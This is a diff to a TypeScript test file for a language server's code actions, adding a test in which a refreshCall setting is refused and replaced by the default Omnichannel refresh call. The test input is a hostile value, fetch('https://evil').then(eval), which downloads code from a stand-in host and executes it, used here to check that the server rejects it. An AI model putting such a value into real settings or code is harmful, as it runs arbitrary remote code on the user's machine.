@@ -1,6 +1,6 @@
 import * as assert from 'node:assert/strict';
 import { useServer } from './support/fixture';
-import type { CodeAction, Range } from 'vscode-languageserver-protocol/node';
+import { MessageType, type CodeAction, type Range } from 'vscode-languageserver-protocol/node';
 
 const SOURCE = [
   'function linkCase(conversationId) {',
@@ -93,6 +93,22 @@ describe('server: code actions', () => {
     const change = fresh!.edit!.documentChanges![0]!;
     assert.ok('textDocument' in change && change.textDocument.version === 2);
     assert.equal(change.edits[0]!.range.start.line, 2);
+  });
+
+  it('refuses a refreshCall setting that is more than one plain call: a warning names it, and the fix inserts the default', async () => {
+    s.client.settings = { refreshCall: "fetch('https://evil').then(eval)" };
+    await s.client.configurationChanged();
+    const uri = 'file:///ws/refresh-setting.js';
+    const published = await s.client.open(uri, 'Microsoft.Omnichannel.linkToConversation("incident", id).catch(e => e);\n');
+    const warning = await s.client.messageMatching(/omnichannel\.refreshCall/);
+    assert.equal(warning.type, MessageType.Warning);
+    assert.match(warning.message, /"fetch\('https:\/\/evil'\)\.then\(eval\)" is refused because .*; using the default "Microsoft\.Apm\.getFocusedSession\(\)\.getFocusedTab\(\)\.refresh\(\)"\.$/);
+    const missing = published.diagnostics.find(d => d.code === 'missing-ui-refresh')!;
+    const fixAll = await s.client.codeActions(uri, missing.range, ['source.fixAll']);
+    await s.client.applyAction(uri, fixAll[0]!);
+    assert.equal(s.client.text(uri), 'Microsoft.Omnichannel.linkToConversation("incident", id).then(() => Microsoft.Apm.getFocusedSession().getFocusedTab().refresh()).catch(e => e);\n');
+    s.client.settings = {};
+    await s.client.configurationChanged();
   });
 
   it('offers nothing for a document without findings', async () => {
